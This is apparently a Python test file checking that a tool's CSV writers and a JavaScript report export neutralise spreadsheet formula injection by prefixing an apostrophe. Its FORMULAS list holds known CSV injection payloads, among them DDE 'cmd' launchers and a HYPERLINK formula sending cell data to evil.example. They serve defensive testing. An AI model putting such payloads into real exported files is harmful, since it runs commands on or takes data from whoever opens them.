"""CSV: what somebody else wrote is never a formula, and a number is never text."""

import csv
import io
import json
import re
import subprocess
from unicodedata import category

import pytest

from lhaw_record.analytics.tables.render import to_csv
from lhaw_record.analytics.tables.tables import Table
from lhaw_record.recorder.cli.output import inert, print_rows
from lhaw_record.recorder.resources import data_path
from tests.support.needs import needs

# OWASP's list of first characters (CSV Injection), and payloads that are in circulation.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001
    "-",
    "x\r=1+1",
    "--x",
]
KEPT = [0, -1, -2.5, 1e-9, float("-inf"), True, "-3", "-0.25", "+1e6", "desk/log-triage", "a=b", "", "x - y"]


def expected(text):
    """A formula as a cell; one behind a carriage return is inert as long as that begins no row."""
    return text if text.startswith("x") else f"'{text}"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    """It gets an apostrophe in front; nothing of it is lost."""
    assert inert(text) == expected(text)


@pytest.mark.parametrize("value", KEPT)
def test_other_values_stay(value):
    """Numbers, also as text, and texts that no spreadsheet runs."""
    assert str(inert(value)) == str(value)


def test_every_command_that_prints_csv_keeps_to_it():
    """Both writers: rows of a command, and a table of the analysis; what is missing is empty."""
    out = io.StringIO()
    rows = [{"name": text, "number": -1.5, "none": None} for text in FORMULAS]
    print_rows(rows, ("name", "number", "none"), "csv", out)
    table = Table(name="t", title="", keys=("name",), columns=("name", "number", "none"), rows=tuple(rows), notes=())
    for text, reading in ((out.getvalue(), {}), (to_csv(table), {"reading": table.reading})):
        head, *found = csv.reader(io.StringIO(text, newline=""))
        assert head == ["name", "number", "none", *reading]
        assert found == [[expected(text), "-1.5", "", *reading.values()] for text in FORMULAS]


def test_only_these_write_csv():
    """No other module of ours that prints uses the library's writer: desk's files are tasks, and are as they are."""
    from pathlib import Path

    root = Path(__file__).parents[3]
    own = {
        path.relative_to(root).as_posix()
        for folder in ("recorder", "analytics")
        for path in (root / folder).rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    }
    assert own == {"recorder/cli/output.py"}


@needs("node")
def test_the_report_saves_the_same_cells():
    """Whatever blank, digit or control character begins a text, the page's CSV has the cell of the command."""
    kinds = ("Cc", "Cf", "Nd", "Zl", "Zp", "Zs")
    characters = [each for each in map(chr, range(0x10000)) if category(each) in kinds]
    texts = [*(f"{each}=1+1" for each in characters if each not in "\t\r\n,"), *(f"-{each}" for each in characters)]
    texts += [*FORMULAS, *map(str, KEPT), "-inf", "+nan", "-Inf", "-1E5"]
    script = re.search(
        r"^function toCsv.*?^}", data_path("page/static/tables.js").read_text("utf-8"), re.MULTILINE | re.DOTALL
    )
    program = f"""{script[0]}
const given = JSON.parse(require("fs").readFileSync(0, "utf-8"));
process.stdout.write(JSON.stringify(given.map((text) => toCsv({{ columns: ["x"], reading: "" }}, [{{ x: text }}]))));"""
    done = subprocess.run(
        ["node", "-e", program], input=json.dumps(texts), capture_output=True, text=True, check=True, encoding="utf-8"
    )
    found = [list(csv.reader(io.StringIO(text, newline="")))[1][0] for text in json.loads(done.stdout)]
    assert [(text, cell) for text, cell in zip(texts, found, strict=True) if cell != inert(text)] == []
